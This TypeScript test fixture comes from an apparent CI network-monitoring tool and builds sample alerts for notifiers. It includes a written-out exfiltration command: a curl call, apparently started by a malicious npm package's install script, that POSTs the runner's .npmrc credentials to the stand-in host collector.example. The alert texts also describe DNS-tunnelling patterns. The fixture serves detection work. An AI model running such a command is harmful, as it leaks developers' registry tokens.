import type { Notification, Together } from "../delivery/notification.js";
import type { Detection } from "../detection/detection.js";
import { endpointKey } from "../endpoint/endpoint.js";
import { jobKey } from "../job/job.js";
import type { Call } from "../run/call.js";
import type { ProcessRecord } from "../run/process.js";
import { runKey } from "../run/run.js";

/*
 * Notifications to try a notifier, a page or a document with. They are the same every time.
 */

const job = {
  platform: "github",
  repository: "acme/shop",
  workflow: ".github/workflows/ci.yml",
  job: "build",
};
const run = runKey({ job, runId: "7431885120", attempt: 2 });
const detectionId = "01KGB7Z4M8Q6V2T9X3C5D1E0FA";
const time = Date.UTC(2026, 0, 31, 13, 37, 0, 250);
const step = { id: "__run_3", name: "Install dependencies", number: 4 };

const npm: ProcessRecord = {
  entityId: "4190-1",
  pid: 4190,
  parentPid: 4102,
  executable: "/usr/local/bin/node",
  args: ["npm", "ci"],
  commandLine: "npm ci",
  userId: 1001,
  userName: "runner",
  step,
  startedAt: time - 5_200,
};

const curl: ProcessRecord = {
  entityId: "4242-1",
  pid: 4242,
  parentPid: npm.pid,
  parentEntityId: npm.entityId,
  executable: "/usr/bin/curl",
  args: [
    "curl",
    "-sS",
    "--data-binary",
    "@/home/runner/.npmrc",
    "https://collector.example:8443/u",
  ],
  commandLine: "curl -sS --data-binary @/home/runner/.npmrc https://collector.example:8443/u",
  workingDirectory: "/home/runner/work/shop/shop/node_modules/left-paddle",
  userId: 1001,
  userName: "runner",
  step,
  startedAt: time - 40,
};

const call: Call = {
  id: "4242-1:7",
  runKey: run,
  time,
  endpoint: { host: "collector.example", port: 8443 },
  verdict: "anomalous",
  detectionId,
  transport: "tcp",
  ip: "203.0.113.9",
  addressClass: "public",
  names: [
    { name: "collector.example", source: "dns", confidence: "certain" },
    { name: "collector.example", source: "tls", confidence: "claimed" },
  ],
  processId: curl.entityId,
  pid: curl.pid,
  commandLine: curl.commandLine,
  step,
  http: [{ time, method: "POST", host: "collector.example", path: "/u" }],
  result: "established",
};

const detection: Detection = {
  id: detectionId,
  kind: "new-endpoint",
  subject: endpointKey(call.endpoint),
  job,
  jobKey: jobKey(job),
  run: {
    key: run,
    runId: "7431885120",
    attempt: 2,
    commit: "5f3c1d0b9a8e7f6d5c4b3a29180f7e6d5c4b3a29",
    ref: "refs/heads/main",
    url: "https://github.com/acme/shop/actions/runs/7431885120",
  },
  endpoint: call.endpoint,
  severity: "high",
  reasons: [
    { code: "new-domain", text: "The job never called any host of collector.example before." },
    { code: "unusual-port", text: "None of the job's calls goes to port 8443." },
  ],
  status: "new",
  occurredAt: time,
  recordedAt: time + 180,
  evidence: { call, process: curl, ancestors: [npm], baseline: { runs: 42, endpoints: 7 } },
};

/** A notification as they usually are: a known step, a full process record, links. */
export function sampleNotification(): Notification {
  return structuredClone({
    idempotencyKey: `${detectionId}:sample`,
    detection,
    links: {
      detection: `https://straycall.example/detections/${detectionId}`,
      run: "https://github.com/acme/shop/actions/runs/7431885120",
    },
  });
}

/** A notification with as little in it as there can be: an unnamed IPv6 address, no step, no process, no links. */
export function sparseNotification(): Notification {
  const id = "01KGB7Z4M8Q6V2T9X3C5D1E0FB";
  const endpoint = { host: "2001:db8::bad:1", port: 443 };
  const sparseCall: Call = {
    id: "4300-1:3",
    runKey: run,
    time,
    endpoint,
    verdict: "anomalous",
    detectionId: id,
    transport: "udp",
    ip: endpoint.host,
    addressClass: "public",
    names: [],
    processId: "4300-1",
    pid: 4300,
    commandLine: "",
    http: [],
  };
  return {
    idempotencyKey: `${id}:sample`,
    detection: {
      ...structuredClone(detection),
      id,
      subject: endpointKey(endpoint),
      run: { key: run, runId: "7431885120", attempt: 1 },
      endpoint,
      reasons: [],
      evidence: { call: sparseCall, ancestors: [], baseline: { runs: 0, endpoints: 0 } },
    },
    links: {},
  };
}

/** A notification of each other kind there is: how a known endpoint is called, what is moved, what a policy refused. */
export function otherKindsOfNotification(): Notification[] {
  const kinds: Pick<Detection, "kind" | "subject" | "reasons" | "newHabits">[] = [
    {
      kind: "new-behavior",
      subject: `${detection.subject} lineage:install-script`,
      newHabits: ["lineage:install-script", "method:POST"],
      reasons: [
        {
          code: "new-install-script",
          bits: 3.5,
          text: "curl was started by a package's own install script, which called this endpoint in 0 of 42 runs.",
        },
      ],
    },
    {
      kind: "new-behavior",
      subject: `${detection.subject} high`,
      reasons: [{ code: "writing", bits: 1.5, text: "It sends something: POST /u." }],
    },
    {
      kind: "unusual-traffic",
      subject: `${detection.subject} curl`,
      reasons: [
        {
          code: "bytes-out",
          bits: 4.5,
          text: "curl made 52428800 sent bytes; in 42 runs it was about 310.",
        },
      ],
    },
    {
      kind: "unusual-traffic",
      subject: "tunnel.example names",
      reasons: [
        {
          code: "data-in-names",
          bits: 5.25,
          text: "It asked for names below tunnel.example that hold 380 characters of what looks like encoded data: whoever serves the domain has them now.",
        },
      ],
    },
    {
      kind: "new-job",
      subject: "job",
      reasons: [
        {
          code: "new-workflow",
          bits: 1,
          text: "No job of this workflow was seen before, though another job of the repository was watched in 42 runs.",
        },
      ],
    },
    {
      kind: "blocked-call",
      subject: detection.subject,
      reasons: [
        {
          code: "refused-by-policy",
          bits: 2,
          text: "The policy of the run does not allow this endpoint, so the call was refused.",
        },
      ],
    },
  ];
  return kinds.map((kind, at) => {
    const id = `01KGB7Z4M8Q6V2T9X3C5D1E0G${at}`;
    return {
      ...sampleNotification(),
      idempotencyKey: `${id}:sample`,
      detection: { ...structuredClone(detection), ...kind, id },
    };
  });
}

/** A notification that tells so many detections, each of a job of its own, for a reason. */
export function severalNotification(together: Together, count: number): Notification {
  const others = Array.from({ length: count - 1 }, (_, at) => {
    const id = `01KGB7Z4M8Q6V2T9X3C5D2${String(at).padStart(4, "0")}`;
    const other = { ...job, job: `job-${at + 1}` };
    return {
      detection: { ...structuredClone(detection), id, job: other, jobKey: jobKey(other) },
      links: { detection: `https://straycall.example/detections/${id}` },
    };
  });
  return { ...sampleNotification(), together, others };
}
